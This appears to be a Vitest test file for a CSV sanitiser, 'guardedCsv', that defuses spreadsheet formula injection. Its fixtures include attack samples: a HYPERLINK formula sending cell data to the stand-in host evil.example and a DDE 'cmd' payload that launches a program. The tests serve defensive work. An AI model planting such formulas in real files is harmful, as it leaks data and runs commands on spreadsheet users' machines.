import { describe, expect, test } from 'vitest';
import { guardedCsv } from './spreadsheet.ts';

describe('guardedCsv', () => {
  test('makes text of every cell that starts a formula, at the start of the file, of a line, or after a separator', () => {
    const csv = [
      '=HYPERLINK("http://evil.example/?"&A2,"Open"),b',
      "a,+cmd|' /C calc'!A0,@SUM(A1),-2+3",
      'a;=1+1\t=2+2',
      '"=quoted", "@spaced"',
    ].join('\r\n');
    expect(guardedCsv(csv)).toBe(
      [
        '\'=HYPERLINK("http://evil.example/?"&A2,"Open"),b',
        "a,'+cmd|' /C calc'!A0,'@SUM(A1),'-2+3",
        "a;'=1+1\t'=2+2",
        '"\'=quoted", "\'@spaced"',
      ].join('\r\n'),
    );
  });

  test('after a byte-order mark, and on the lines of a quoted cell', () => {
    expect(guardedCsv('\uFEFF=1+1,x')).toBe("\uFEFF'=1+1,x");
    expect(guardedCsv('"note\n=1+1",x')).toBe('"note\n\'=1+1",x');
  });

  test('leaves plain numbers, dates, text and a file without formulas as they are', () => {
    const csv = 'wavelength (nm),intensity\n-5,+1.5e3\n532.1,-0.25\n"-7", 2026-03-14\ncalibrated by Ada,ok\n';
    expect(guardedCsv(csv)).toBe(csv);
  });
});
